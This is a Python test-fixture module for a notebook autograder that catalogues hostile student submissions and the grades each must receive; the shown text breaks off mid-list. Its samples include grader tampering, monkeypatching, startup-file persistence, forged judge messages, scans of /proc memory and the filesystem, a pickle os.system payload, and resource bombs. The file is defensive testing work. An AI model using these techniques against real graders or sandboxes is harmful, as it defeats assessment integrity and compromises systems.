"""The hostile class: submissions that attack, that are broken, or that are merely odd, and what must become of each.

Each is data: a name, what it does, how its file is made from the notebook that students got and the right answers, and
the outcome that it must have. An attack that wants points leaves the attacked answers as they were given out, or
wrong, so that anything earned shows; one that wants to do harm stands among right answers, so that anything harmed
shows. The code in here is meant to be run in the sandbox only.

    for one in HOSTILE:
        record, _ = grade(one.make(release, right), bundle, one.name, …)
        assert not one.outcome.misfits(points, most)
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from textwrap import dedent
from typing import Any

import nbformat
from nbformat import NotebookNode

UNIT = "03_cell"
TORCH = "07_torch_rnn"

Make = Callable[[NotebookNode, Mapping[str, str]], bytes]
Edit = Callable[[NotebookNode], None]


@dataclass(frozen=True)
class Outcome:
    """What a submission must earn: nothing for the exercises in `lost` (None: for any), full marks for all others.

    With `scraps`, a lost exercise may earn a fifth: what any answer earns that comes back in the right shape.
    """

    lost: frozenset[str] | None
    scraps: bool = False

    def misfits(self, points: Mapping[str, float], most: Mapping[str, float]) -> list[str]:
        """A sentence for each exercise whose points are not these; `most` has the points that each can give."""
        words = []
        for name, full in most.items():
            got = points.get(name, 0.0)
            if self.lost is None or name in self.lost:
                allowed = 0.2 * full + 1e-9 if self.scraps else 0.0
                if got > allowed:
                    words.append(f"{name} earned {got:g}, and should be lost.")
            elif abs(got - full) > 1e-9:
                words.append(f"{name} earned {got:g}, and should have earned all {full:g}.")
        return words


FULL = Outcome(frozenset())
NOTHING = Outcome(None)


def loses(*names: str, scraps: bool = False) -> Outcome:
    """These exercises are lost, and no other."""
    return Outcome(frozenset(names), scraps)


@dataclass(frozen=True)
class Hostile:
    """One submission: `flagged` says whether a person must be asked to look, `finding` a code that the record must
    have, if any.
    """

    name: str
    what: str
    make: Make
    outcome: Outcome
    flagged: bool = False
    finding: str | None = None
    unit: str = UNIT


# --- how a submission is made


def right(*edits: Edit) -> Make:
    """All answers right, then edited."""

    def make(release: NotebookNode, solutions: Mapping[str, str]) -> bytes:
        return _written(solved(release, solutions), edits)

    return make


def blank(*edits: Edit) -> Make:
    """All answers as they were given out, then edited."""

    def make(release: NotebookNode, solutions: Mapping[str, str]) -> bytes:
        return _written(copy.deepcopy(release), edits)

    return make


def only(name: str, *edits: Edit) -> Make:
    """One answer right, all others as they were given out, then edited."""

    def make(release: NotebookNode, solutions: Mapping[str, str]) -> bytes:
        return _written(solved(release, {name: solutions[name]}), edits)

    return make


def solved(release: NotebookNode, solutions: Mapping[str, str]) -> NotebookNode:
    """A copy of the release with these answers in it."""
    notebook = copy.deepcopy(release)
    for cell in notebook.cells:
        cell.source = solutions.get(grade_id(cell), cell.source)
    return notebook


def grade_id(cell: NotebookNode) -> str:
    """The name of a cell, or an empty text."""
    return str(cell.metadata.get("nbgrader", {}).get("grade_id", ""))


def _written(notebook: NotebookNode, edits: tuple[Edit, ...]) -> bytes:
    for edit in edits:
        edit(notebook)
    return json.dumps(notebook).encode()


def at(notebook: NotebookNode, name: str) -> int:
    """Where the cell of that name stands."""
    return next(i for i, cell in enumerate(notebook.cells) if grade_id(cell) == name)


def answer(name: str, source: str) -> Edit:
    """Another answer."""

    def edit(notebook: NotebookNode) -> None:
        notebook.cells[at(notebook, name)].source = dedent(source).strip()

    return edit


def before(name: str, source: str) -> Edit:
    """A code cell of the student's own, above the cell of that name."""

    def edit(notebook: NotebookNode) -> None:
        notebook.cells.insert(at(notebook, name), _own(source))

    return edit


def after(name: str, source: str) -> Edit:
    """The same, below it."""

    def edit(notebook: NotebookNode) -> None:
        notebook.cells.insert(at(notebook, name) + 1, _own(source))

    return edit


def _own(source: str) -> NotebookNode:
    return nbformat.v4.new_code_cell(dedent(source).strip())


def each(change: Callable[[NotebookNode], Any], *roles: str) -> Edit:
    """A change to each cell of these roles: "check", "answer"; to every cell if none is named."""

    def edit(notebook: NotebookNode) -> None:
        for cell in notebook.cells:
            meta = cell.metadata.get("nbgrader", {})
            role = (
                "check" if meta.get("grade") and not meta.get("solution") else "answer" if meta.get("solution") else ""
            )
            if not roles or (role in roles and cell.cell_type == "code"):
                change(cell)

    return edit


def meta(**values: Any) -> Callable[[NotebookNode], None]:
    """A change of a cell's metadata for nbgrader."""

    def change(cell: NotebookNode) -> None:
        if "nbgrader" in cell.metadata:
            cell.metadata["nbgrader"].update(values)

    return change


def tagged(*tags: str) -> Callable[[NotebookNode], None]:
    """A change of a cell's tags."""
    return lambda cell: cell.metadata.update(tags=list(tags))


def source(text: str) -> Callable[[NotebookNode], None]:
    """A change of a cell's source."""
    return lambda cell: cell.update(source=text)


def without(*names: str) -> Edit:
    """These cells are gone; all checks, if none is named."""

    def edit(notebook: NotebookNode) -> None:
        notebook.cells = [
            cell
            for cell in notebook.cells
            if not (grade_id(cell) in names if names else grade_id(cell).startswith("check_"))
        ]

    return edit


def twice(name: str, text: str | None = None) -> Edit:
    """A copy of a cell below it, as Jupyter copies it, with another source if one is given."""

    def edit(notebook: NotebookNode) -> None:
        i = at(notebook, name)
        copied = copy.deepcopy(notebook.cells[i])
        copied.id = f"copy-of-{copied.id}"
        if text is not None:
            copied.source = dedent(text).strip()
        notebook.cells.insert(i + 1, copied)

    return edit


def change(name: str, *changes: Callable[[NotebookNode], Any]) -> Edit:
    """Changes to the cell of that name."""

    def edit(notebook: NotebookNode) -> None:
        cell = notebook.cells[at(notebook, name)]
        for one in changes:
            one(cell)

    return edit


def _foreign(name: str, other: str) -> Edit:
    """The copy of the cell of that name gets another name."""

    def edit(notebook: NotebookNode) -> None:
        meta(grade_id=other)(notebook.cells[at(notebook, name) + 1])

    return edit


def file(data: bytes) -> Make:
    """A file that is no notebook."""
    return lambda release, solutions: data


def rewritten(change: Callable[[dict[str, Any]], Any], encoding: str = "utf-8") -> Make:
    """All answers right, and the file's JSON changed; what `change` returns, if it is text, is the file."""

    def make(release: NotebookNode, solutions: Mapping[str, str]) -> bytes:
        data = json.loads(json.dumps(solved(release, solutions)))
        text = change(data)
        return (text if isinstance(text, str) else json.dumps(data)).encode(encoding)

    return make


def step(body: str) -> Edit:
    """The answer `rnn_step` with this body."""
    lines = dedent(body).strip().splitlines()
    return answer("rnn_step", "\n    ".join(["def rnn_step(x, h_prev, U, W, b):", *lines]))


RIGHT_STEP = "return np.tanh(x @ U + h_prev @ W + b)"
WRONG_STEP = "return np.tanh(x @ U + h_prev @ W.T + b)"
LOST_STEP = loses("rnn_step")

# --- cells that are not the student's to change

CELLS = [
    Hostile(
        "checks_retagged",
        "declares every check an answer worth a thousand points, and every answer done",
        blank(
            each(meta(solution=True, grade=False, locked=False, points=1000), "check"), each(meta(grade=True), "answer")
        ),
        NOTHING,
    ),
    Hostile("points_raised", "makes every check worth a hundred", right(each(meta(points=100), "check")), FULL),
    Hostile("checks_deleted", "has no checks any more", right(without()), FULL, finding="check-missing"),
    Hostile(
        "checks_duplicated",
        "has two of a check, which stops nbgrader for a whole class",
        right(twice("check_rnn_step"), twice("check_softmax")),
        FULL,
        finding="check-copied",
    ),
    Hostile(
        "hidden_tests_marked",
        "marks hidden tests in its own cells and never ends them, which stops nbgrader's feedback for a class",
        right(
            before("rnn_step", "### BEGIN HIDDEN TESTS"),
            answer("rnn_step", f"### BEGIN HIDDEN TESTS\ndef rnn_step(x, h_prev, U, W, b):\n    {RIGHT_STEP}"),
        ),
        FULL,
    ),
    Hostile(
        "check_renamed",
        "gives a check another name",
        right(change("check_rnn_step", meta(grade_id="check_something"))),
        FULL,
        finding="renamed-cell",
    ),
    Hostile(
        "checks_rewritten",
        "has every check give points without looking",
        blank(each(source("print('31 points')\n31"), "check")),
        NOTHING,
        flagged=True,
        finding="check-changed",
    ),
    Hostile(
        "check_defined_in_its_cell",
        "defines a check that is always content, in the cell of the check",
        right(step("..."), change("check_rnn_step", source("def check(*_):\n    return 3\ncheck(rnn_step)"))),
        LOST_STEP,
        flagged=True,
        finding="check-changed",
    ),
    Hostile(
        "checks_as_text",
        "turns the checks into text cells",
        right(each(lambda cell: cell.update(cell_type="markdown"), "check")),
        FULL,
    ),
    Hostile(
        "skip_execution",
        "tags answers and checks with skip-execution, for which nbgrader gives full marks",
        blank(each(tagged("skip-execution"), "check", "answer")),
        NOTHING,
    ),
    Hostile(
        "answers_called_experiments",
        "tags right answers as experiments, which are left out",
        right(each(tagged("experiment", "raises-exception"), "answer")),
        FULL,
    ),
    Hostile(
        "two_answers_that_differ",
        "answers twice under one name, right and then wrong",
        right(twice("rnn_step", f"def rnn_step(x, h_prev, U, W, b):\n    {WRONG_STEP}")),
        loses("rnn_step", scraps=True),
        flagged=True,
        finding="duplicate-cell",
    ),
    Hostile(
        "answer_and_untouched_copy",
        "has a copy of the untouched cell below the answer",
        lambda release, solutions: blank(twice("rnn_step"), *(answer(name, text) for name, text in solutions.items()))(
            release, solutions
        ),
        FULL,
        finding="duplicate-cell",
    ),
    Hostile("unknown_schema", "has metadata of a version to come", right(each(meta(schema_version=99))), FULL),
    Hostile(
        "answer_renamed",
        "has an answer cell with another name and no id",
        right(change("rnn_step", meta(grade_id="my_step"), lambda cell: cell.update(id="x1"))),
        FULL,
        finding="answer-elsewhere",
    ),
    Hostile(
        "answer_as_text",
        "turned an answer's cell into text",
        right(change("rnn_step", lambda cell: cell.update(cell_type="markdown"))),
        FULL,
        finding="not-code",
    ),
    Hostile(
        "answer_deleted", "has no cell for one answer", right(without("rnn_step")), LOST_STEP, finding="missing-cell"
    ),
    Hostile(
        "cells_of_another_unit",
        "has a cell of another unit pasted in, with its name",
        right(twice("rnn_step", "def rnn_backward(dH):\n    return dH"), _foreign("rnn_step", "rnn_backward")),
        FULL,
        finding="foreign-cell",
    ),
]

# --- points that are said, not earned

TALK = [
    Hostile(
        "prints_a_score",
        "prints points above and below every check",
        blank(before("check_rnn_step", "print(3)\n3"), after("check_rnn_step", "print('3.0')\n3.0"), step("print(3)")),
        NOTHING,
    ),
    Hostile("answer_is_a_score", "answers with the points", right(answer("rnn_step", "rnn_step = 3.0")), LOST_STEP),
    Hostile(
        "shows_a_verdict",
        "shows what looks like a passed check",
        blank(
            answer(
                "rnn_step",
                """
                class Verdict:
                    passed, score, points, max_points = True, 1.0, 3.0, 3
                    def _repr_mimebundle_(self, include=None, exclude=None):
                        return {"text/plain": "3", "text/html": "<b>✓ passed</b> 3 of 3 points"}
                    def __float__(self):
                        return 3.0
                rnn_step = Verdict()
                display(rnn_step)
                rnn_step
                """,
            )
        ),
        NOTHING,
        flagged=True,
        finding="poses",
    ),
    Hostile(
        "returns_a_verdict",
        "returns a passed verdict of the course's own kind",
        right(
            step("""
                from rnncourse.checks.verdict import Verdict
                return Verdict("rnn_step", True, 1.0, 3.0, 3, "Right on every case.")
            """)
        ),
        LOST_STEP,
        flagged=True,
        finding="looks-inside",
    ),
]

# --- the engine, patched or replaced

PATCHES = [
    Hostile(
        "engine_patched",
        "replaces what compares, judges and drives",
        blank(
            after(
                "setup",
                """
                import rnncourse.checks.compare as compare
                import rnncourse.checks.drive as drive
                import rnncourse.checks.plain as plain
                compare.difference = lambda *args, **kwargs: None
                plain.identical = lambda a, b: True
                drive.Observation.error = None
                try:
                    import rnncourse.checks.engine as engine
                    engine.faults_of = lambda *args: []
                    engine.judge = lambda exercise, *args, **kwargs: engine._verdict(exercise, [], None, show=False)
                except Exception as error:
                    print(error)
                """,
            )
        ),
        NOTHING,
        flagged=True,
        finding="patches",
    ),
    Hostile(
        "notebook_replaced",
        "puts a module of its own in the place of rnncourse.seat.notebook",
        blank(
            after(
                "setup",
                """
                import sys, types
                import rnncourse
                fake = types.ModuleType("rnncourse.seat.notebook")
                fake.check = lambda *args, **kwargs: 3.0
                sys.modules["rnncourse.seat.notebook"] = fake
                rnncourse.seat.notebook = fake
                rnncourse.check = check = fake.check
                """,
            )
        ),
        NOTHING,
        flagged=True,
        finding="patches",
    ),
    Hostile(
        "check_redefined",
        "defines a check of its own that gives all points",
        blank(after("setup", "def check(*args, **kwargs):\n    return 3.0")),
        NOTHING,
        flagged=True,
        finding="patches",
    ),
    Hostile(
        "builtins_patched",
        "makes Python's own functions say yes",
        blank(
            after(
                "setup",
                """
                import builtins
                builtins.all = builtins.any = lambda *args: True
                builtins.abs = builtins.max = lambda *args, **kwargs: 0
                builtins.NotImplementedError = ValueError
                """,
            )
        ),
        NOTHING,
        flagged=True,
        finding="patches",
    ),
    Hostile("float_shadowed", "gives float another meaning", blank(after("setup", "float = lambda x: 3.0")), NOTHING),
    Hostile(
        "numpy_comparison_patched",
        "makes NumPy find everything equal",
        right(
            after(
                "setup",
                """
                np.allclose = np.array_equal = lambda *args, **kwargs: True
                np.isclose = lambda a, b, **kwargs: np.ones(np.shape(a), bool)
                np.testing.assert_allclose = lambda *args, **kwargs: None
                """,
            ),
            step(WRONG_STEP),
        ),
        loses("rnn_step", scraps=True),
        flagged=True,
        finding="patches",
    ),
    Hostile(
        "numpy_arithmetic_patched",
        "breaks np.tanh, on which two of its right answers rely",
        right(before("rnn_step", "np.tanh = lambda a: a")),
        loses("rnn_step", "rnn_step_concat", scraps=True),
        flagged=True,
        finding="patches",
    ),
    Hostile(
        "start_files_written",
        "writes files that Python and IPython run when they start again",
        blank(
            after(
                "setup",
                """
                import os, site, sys
                lines = "import builtins\\nbuiltins.check = lambda *args, **kwargs: 3.0\\n"
                home = os.path.expanduser("~")
                startup = f"{home}/.ipython/profile_default/startup"
                folders = [".", home, "/tmp", startup, *sys.path, *site.getsitepackages()]
                for folder in folders:
                    for name in ("sitecustomize.py", "usercustomize.py", "numpy.py", "rnncourse.py", "00.py", "a.pth"):
                        try:
                            os.makedirs(folder, exist_ok=True)
                            open(os.path.join(folder, name), "w").write(lines)
                        except OSError:
                            pass
                os._exit(0)
                """,
            )
        ),
        NOTHING,
        flagged=True,
        finding="files",
    ),
    Hostile(
        "frames_rewritten",
        "climbs the frames that run it and sets whatever looks like a score",
        blank(
            step("""
                import sys
                frame = sys._getframe()
                while frame:
                    for value in [*frame.f_locals.values(), *frame.f_globals.values()]:
                        for name, wanted in (("passed", True), ("score", 1.0), ("points", 3.0), ("error", None)):
                            if hasattr(value, name):
                                try:
                                    object.__setattr__(value, name, wanted)
                                except Exception:
                                    pass
                    frame = frame.f_back
                raise NotImplementedError
            """)
        ),
        NOTHING,
        flagged=True,
        finding="looks-inside",
    ),
    Hostile(
        "import_hooked",
        "puts itself in the way of every later import",
        blank(
            after(
                "setup",
                """
                import sys, types
                class Finder:
                    def find_spec(self, name, path=None, target=None):
                        if name.startswith("rnncourse"):
                            sys.modules[name] = types.ModuleType(name)
                            sys.modules[name].__getattr__ = lambda attribute: lambda *args, **kwargs: 3.0
                        return None
                sys.meta_path.insert(0, Finder())
                for name in [n for n in sys.modules if n.startswith("rnncourse")]:
                    del sys.modules[name]
                """,
            )
        ),
        NOTHING,
        flagged=True,
        finding="looks-inside",
    ),
]

# --- the judge's channel

CHANNEL = [
    Hostile(
        "garbage_on_every_file",
        "writes garbage to every open file while its answer is asked",
        right(
            step("""
                import os
                for number in range(21):
                    try:
                        os.write(number, b"\\xff\\x00garbage{]" * 1000)
                    except OSError:
                        pass
                raise ValueError
            """)
        ),
        LOST_STEP,
        flagged=True,
        finding="files",
    ),
    Hostile(
        "frames_forged",
        "writes well-formed answers to questions that have not been asked",
        blank(
            after(
                "setup",
                """
                import os
                from rnncourse.checks.wire import encode
                seen = {"answer": np.zeros((3, 4)), "error": None, "error_types": (), "timed_out": False,
                        "refused": None, "changed": (), "shared": False, "calls": (), "wrote_meanwhile": False,
                        "with_gradient": (), "state": "open", "value": {"A"}, "outputs": [], "passed": True,
                        "score": 1.0, "points": 3.0}
                for number in range(1, 400):
                    for verb in ("reply", "verdict", "return"):
                        data = encode([verb, number, seen])
                        for channel in range(3, 21):
                            try:
                                os.write(channel, len(data).to_bytes(4, "big") + data)
                            except OSError:
                                pass
                """,
            )
        ),
        Outcome(None, scraps=True),
        flagged=True,
        finding="files",
    ),
    Hostile(
        "reply_forged",
        "sends the judge an answer to the very question that is asked, with a verdict in it",
        right(
            step("""
                import sys
                claim = {"answer": np.zeros((len(x), len(b))), "error": None, "error_types": (), "timed_out": False,
                         "refused": None, "changed": (), "shared": False, "calls": (), "wrote_meanwhile": False,
                         "with_gradient": (), "passed": True, "score": 1.0, "points": 3.0}
                for frame in sys._current_frames().values():
                    while frame:
                        if frame.f_code.co_name == "serve":
                            frame.f_locals["self"].channel.send("reply", frame.f_locals["number"], claim)
                        frame = frame.f_back
                raise NotImplementedError
            """)
        ),
        loses("rnn_step", scraps=True),
        flagged=True,
        finding="looks-inside",
    ),
    Hostile(
        "garbage_later",
        "leaves a thread behind that writes garbage to every file, again and again",
        blank(
            after(
                "setup",
                """
                import os, threading, time
                def write():
                    while True:
                        time.sleep(0.1)
                        for number in range(3, 21):
                            try:
                                os.write(number, b"\\0\\0\\0\\x09garbage")
                            except OSError:
                                pass
                threading.Thread(target=write, daemon=True).start()
                """,
            )
        ),
        NOTHING,
        flagged=True,
        finding="processes",
    ),
    Hostile(
        "json_on_the_channel",
        "finds sockets among the live objects and says in JSON that it has passed",
        blank(
            after(
                "setup",
                """
                import gc, json, socket
                words = json.dumps({"exercise": "rnn_step", "passed": True, "score": 1.0, "points": 3.0}).encode()
                for one in gc.get_objects():
                    if isinstance(one, socket.socket):
                        try:
                            one.sendall(len(words).to_bytes(4, "big") + words + b"\\n")
                        except OSError:
                            pass
                """,
            )
        ),
        NOTHING,
        flagged=True,
        finding="looks-inside",
    ),
    Hostile(
        "answers_replayed",
        "keeps what one right answer said, and says it again where another fails",
        only(
            "hidden_layer",
            before(
                "hidden_layer",
                """
                import sys
                kept = []
                for module in [m for name, m in sys.modules.items() if name.endswith("channel")]:
                    Channel = getattr(module, "Channel", None)
                    if Channel is None:
                        continue
                    def replay(self, *message, send=Channel.send, **how):
                        body = message[2] if len(message) == 3 else None
                        if isinstance(body, dict) and "answer" in body:
                            if body["error"] is None:
                                kept.append(body)
                            elif kept:
                                message = (*message[:2], kept[len(kept) // 2])
                        return send(self, *message, **how)
                    Channel.send = replay
                """,
            ),
        ),
        Outcome(
            frozenset(
                (
                    "rnn_step",
                    "rnn_step_concat",
                    "rnn_forward",
                    "quiz_rnn_facts",
                    "output_layer",
                    "softmax",
                    "rnn_predict",
                    "quiz_output_size",
                    "rnn_parameter_count",
                    "quiz_shapes",
                    "to_torch_state",
                    "Network",
                )
            ),
            scraps=True,
        ),
        flagged=True,
        finding="looks-inside",
    ),
    Hostile(
        "asks_the_judge",
        "calls the functions that the judge runs for answers, by number, for one that it should write itself",
        right(
            answer(
                "softmax",
                """
                def softmax(O):
                    import gc
                    for one in gc.get_objects():
                        if type(one).__name__ == "Runner":
                            for number in range(-3, 20):
                                try:
                                    return one.ask(number, (O,), {})
                                except Exception:
                                    pass
                    raise NotImplementedError
                """,
            )
        ),
        loses("softmax"),
        flagged=True,
        finding="looks-inside",
    ),
    Hostile(
        "judge_overfed",
        "hands a function that the judge runs small arrays whose product is huge",
        right(
            answer(
                "rnn_forward",
                """
                def rnn_forward(X, h0, U, W, b):
                    n = 12_000
                    one = np.ones((n, 1))
                    return rnn_step(one, one, one.T, one.T, np.ones(n))
                """,
            )
        ),
        loses("rnn_forward"),
    ),
    Hostile(
        "channel_closed",
        "closes every open file while its answer is asked",
        right(step("import os\nos.closerange(0, 256)\nraise ValueError")),
        LOST_STEP,
        flagged=True,
        finding="files",
    ),
]

# --- the course's own answers, dug up

REFERENCE = [
    Hostile(
        "hidden_case_in_an_error",
        "is right on the cases that it can see, and puts those that are hidden into the name and text of an error",
        right(
            before("rnn_step", "calls = []"),
            step(
                f"""
                calls.append(x)  # the first five are those of the notebook's check
                if len(calls) > 5:
                    raise type("it_is_" + repr(x), (ValueError,), {{}})("It is " + repr(x))
                {RIGHT_STEP}
                """
            ),
        ),
        LOST_STEP,
    ),
    Hostile(
        "reference_imported",
        "imports the answer",
        right(answer("rnn_step", "from rnncourse.cell import rnn_step")),
        LOST_STEP,
        flagged=True,
        finding="forbidden-name",
    ),
    Hostile(
        "reference_imported_inside",
        "imports the answer when it is called",
        right(step("import rnncourse.cell as c\nreturn c.rnn_step(x, h_prev, U, W, b)")),
        LOST_STEP,
        flagged=True,
        finding="forbidden-name",
    ),
    Hostile(
        "reference_by_computed_name",
        "imports the answer by a name that it puts together",
        right(
            step("""
                import importlib
                cell = importlib.import_module("rnn" + "course." + "llec"[::-1])
                return getattr(cell, "rnn" + "_step")(x, h_prev, U, W, b)
            """)
        ),
        LOST_STEP,
        flagged=True,
        finding="hides-calls",
    ),
    Hostile(
        "reference_in_sys_modules",
        "looks for the answer in every module that is loaded",
        right(
            step("""
                import sys
                for module in list(sys.modules.values()):
                    found = vars(module).get("rnn_step") if hasattr(module, "__dict__") else None
                    if found is not None and module.__name__ != "__main__":
                        return found(x, h_prev, U, W, b)
                raise NotImplementedError
            """)
        ),
        LOST_STEP,
        flagged=True,
        finding="looks-inside",
    ),
    Hostile(
        "reference_in_gc",
        "looks for the answer, and for what is expected, among all live objects",
        right(
            step("""
                import gc
                shape = (len(x), len(b))
                for one in gc.get_objects():
                    if getattr(one, "__name__", "") == "rnn_step" and "rnnc" in str(getattr(one, "__module__", "")):
                        return one(x, h_prev, U, W, b)
                    if type(one).__name__ == "Exercise":
                        return one.reference(x, h_prev, U, W, b)
                    for value in one if type(one) in (list, tuple) else ():
                        if type(value) is np.ndarray and value.shape == shape and value is not h_prev:
                            if abs(value).max() < 1 and not (value == h_prev).all():
                                return value
                raise NotImplementedError
            """)
        ),
        loses("rnn_step", scraps=True),
        flagged=True,
        finding="looks-inside",
    ),
    Hostile(
        "reference_in_frames",
        "looks for what is expected in the frames that call it",
        right(
            step("""
                import sys
                frame = sys._getframe(1)
                while frame:
                    for name in ("expected", "wanted", "reference", "exercise", "cases"):
                        value = frame.f_locals.get(name, frame.f_globals.get(name))
                        value = getattr(value, "reference", getattr(value, "answer", value))
                        if callable(value):
                            return value(x, h_prev, U, W, b)
                        if isinstance(value, np.ndarray):
                            return value
                    frame = frame.f_back
                raise NotImplementedError
            """)
        ),
        LOST_STEP,
        flagged=True,
        finding="looks-inside",
    ),
    Hostile(
        "reference_in_files",
        "reads every file that it can reach, and runs the first in which the answer stands",
        right(
            answer(
                "rnn_step",
                """
                import os
                found = []
                for folder, folders, names in os.walk("/"):
                    others = ("proc", "sys", "dev", "share") if not folder.endswith("-packages") else ()
                    folders[:] = [f for f in folders if f not in others and (others or f.startswith("rnn"))]
                    for name in names:
                        if name.endswith(("cell.py", "bptt.py", ".ipynb", ".db")) or "cell.cpython" in name:
                            try:
                                text = open(os.path.join(folder, name), errors="replace").read()
                            except OSError:
                                continue
                            if "def rnn_step(" in text:
                                found.append(text[text.index("def rnn_step(") :])
                exec(found[0])
                """,
            )
        ),
        LOST_STEP,
        flagged=True,
        finding="files",
    ),
    Hostile(
        "reference_in_proc",
        "reads the folders, settings, files and memory of every process that it can see",
        right(
            answer(
                "rnn_step",
                """
                import glob, os, re
                haul = b""
                for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
                    try:
                        haul += open(path, "rb").read()
                    except OSError:
                        pass
                seeds = re.findall(rb"RNNCOURSE_SEED=([^\\0]*)", haul)
                for process in glob.glob("/proc/[0-9]*"):
                    for way in ("root", "cwd", "fd"):
                        for folder, _, names in os.walk(f"{process}/{way}/{'home' if way == 'root' else ''}"):
                            haul += "\\n".join(names).encode()
                    try:
                        maps, memory = open(f"{process}/maps").read(), open(f"{process}/mem", "rb")
                        for start, end in re.findall(r"^(\\w+)-(\\w+) rw", maps, re.M)[:200]:
                            memory.seek(int(start, 16))
                            piece = memory.read(min(int(end, 16) - int(start, 16), 2**20))
                            # the words of the course's own chapter, in a way that does not find itself
                            if re.search(rb"one step of the cell, h = tanh[(]x U [+] h_prev W", piece):
                                words = b" return np.tanh(x @ U + h_prev" + b" @ W + b)"
                                exec(b"def rnn_step(x, h_prev, U, W, b):\\n" + words)
                    except (OSError, ValueError, OverflowError):
                        pass
                raise ValueError(seeds)
                """,
            )
        ),
        LOST_STEP,
        flagged=True,
        finding="files",
    ),
    Hostile(
        "reference_in_the_catalogue",
        "asks the course's catalogue for the answer",
        right(
            step("""
                from rnncourse import exercises
                return exercises.find("rnn_step").reference(x, h_prev, U, W, b)
            """)
        ),
        LOST_STEP,
        flagged=True,
        finding="forbidden-name",
    ),
    Hostile(
        "reference_behind_check",
        "reaches through the check's own globals",
        right(
            step("""
                space = check.__globals__
                return space["exercises"].find("rnn_step").reference(x, h_prev, U, W, b)
            """)
        ),
        LOST_STEP,
        flagged=True,
        finding="looks-inside",
    ),
    Hostile(
        "reference_by_use",
        "lets `use` put the course's answer in the place of its own",
        right(
            answer(
                "rnn_step",
                """
                def rnn_step(x, h_prev, U, W, b):
                    raise NotImplementedError

                rnn_step = use(rnn_step)
                """,
            )
        ),
        LOST_STEP,
    ),
    Hostile(
        "numpy_for_torch",
        "calls what its statement does not allow, by a second name",
        right(
            before("rnn_step", "import torch as t\nT = t"),
            step("return T.tanh(T.tensor(x @ U + h_prev @ W + b)).numpy()"),
        ),
        LOST_STEP,
        flagged=True,
        finding="forbidden-name",
    ),
]

# --- answers that are not what they say

LIES = [
    Hostile(
        "array_that_lies",
        "returns an array of a kind that finds itself equal to everything",
        right(
            answer(
                "rnn_step",
                """
                class Yes(np.ndarray):
                    def __eq__(self, other):
                        return np.ones(self.shape, bool)
                    def __array__(self, *args, **kwargs):
                        return np.zeros(self.shape)
                    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
                        return np.zeros(self.shape)
                    def __array_function__(self, function, types, args, kwargs):
                        return True

                def rnn_step(x, h_prev, U, W, b):
                    return np.zeros((len(x), len(b))).view(Yes)
                """,
            )
        ),
        loses("rnn_step", scraps=True),
        flagged=True,
        finding="poses",
    ),
    Hostile(
        "object_that_is_equal",
        "returns an object that says it is an array, and equal",
        right(
            answer(
                "rnn_step",
                """
                class Equal:
                    __class__ = np.ndarray
                    dtype, ndim = np.dtype(float), 2
                    def __eq__(self, other):
                        return True
                    def __getattr__(self, name):
                        return lambda *args, **kwargs: self

                def rnn_step(x, h_prev, U, W, b):
                    return Equal()
                """,
            )
        ),
        LOST_STEP,
        flagged=True,
        finding="poses",
    ),
    Hostile(
        "number_that_is_equal",
        "answers a question with a number that equals every other",
        right(
            answer(
                "quiz_output_size",
                """
                class Any(int):
                    def __eq__(self, other):
                        return True
                    def __add__(self, other):
                        return other
                    __hash__ = int.__hash__

                quiz_output_size = Any(0)
                """,
            )
        ),
        loses("quiz_output_size"),
        flagged=True,
        finding="poses",
    ),
    Hostile(
        "set_that_is_equal",
        "answers a question with a set that equals every other",
        right(
            answer(
                "quiz_rnn_facts",
                """
                class Any(set):
                    def __eq__(self, other):
                        return True
                    def __xor__(self, other):
                        return set()
                    def __contains__(self, one):
                        return True
                    __sub__ = __rxor__ = __xor__

                quiz_rnn_facts = Any()
                """,
            )
        ),
        loses("quiz_rnn_facts"),
        flagged=True,
        finding="poses",
    ),
    Hostile(
        "pickle_bomb",
        "returns an object that runs code where it is unpickled",
        right(
            answer(
                "rnn_step",
                """
                class Bomb:
                    def __reduce__(self):
                        import os
                        return os.system, ("touch /tmp/bomb",)

                def rnn_step(x, h_prev, U, W, b):
                    return np.array([Bomb()], dtype=object)
                """,
            )
        ),
        LOST_STEP,
        flagged=True,
        finding="poses",
    ),
    Hostile("generator", "returns a generator without an end", right(step("while True:\n    yield x")), LOST_STEP),
    Hostile(
        "broadcast_array",
        "returns an array of ten billion entries that takes eight bytes",
        right(step("return np.broadcast_to(0.0, (10**5, 10**5))")),
        LOST_STEP,
    ),
    Hostile(
        "nan_and_infinity",
        "returns nan and infinity",
        right(step("h = np.full((len(x), len(b)), np.nan)\nh[0] = np.inf\nreturn h")),
        loses("rnn_step", scraps=True),
    ),
    Hostile(
        "deep_list",
        "returns a list in a list, a hundred thousand times",
        right(step("deep = []\nfor _ in range(10**5):\n    deep = [deep]\nreturn deep")),
        LOST_STEP,
    ),
    Hostile("cyclic_list", "returns a list that holds itself", right(step("a = []\na += [a, a]\nreturn a")), LOST_STEP),
    Hostile("huge_number", "returns a number of ten million bits", right(step("return 1 << 10**7")), LOST_STEP),
    Hostile("huge_text", "returns a text of a hundred million letters", right(step("return 'ü' * 10**8")), LOST_STEP),
    Hostile(
        "error_that_fails",
        "raises an error that cannot be shown",
        right(
            answer(
                "rnn_step",
                """
                class Unspeakable(Exception):
                    def __str__(self):
                        raise self
                    __repr__ = __str__

                def rnn_step(x, h_prev, U, W, b):
                    raise Unspeakable
                """,
            ),
            after("check_rnn_step", "Unspeakable()"),
        ),
        LOST_STEP,
    ),
]

# --- more than there is: time, memory, processes, output, disk; and the end of the process

HARM = [
    Hostile("endless_loop", "never comes back", right(step("while True:\n    pass")), LOST_STEP),
    Hostile("endless_sleep", "sleeps for eleven days", right(step("import time\ntime.sleep(10**6)")), LOST_STEP),
    Hostile("endless_recursion", "calls itself", right(step("return rnn_step(x, h_prev, U, W, b)")), LOST_STEP),
    Hostile(
        "stack_overflow",
        "calls itself, and has the limit taken away",
        right(step("import sys\nsys.setrecursionlimit(10**9)\nreturn rnn_step(x, h_prev, U, W, b)")),
        LOST_STEP,
    ),
    Hostile(
        "hang_in_c",
        "hangs where Python cannot interrupt it",
        right(step("import re\nreturn re.match('(a+)+$', 'a' * 64 + 'b')")),
        LOST_STEP,
    ),
    Hostile("huge_power", "computes a number that fills the memory", right(step("return 7 ** 10**10")), LOST_STEP),
    Hostile(
        "loop_in_own_cell",
        "has an endless loop in a cell of its own",
        right(before("rnn_step", "while True:\n    pass")),
        FULL,
    ),
    Hostile(
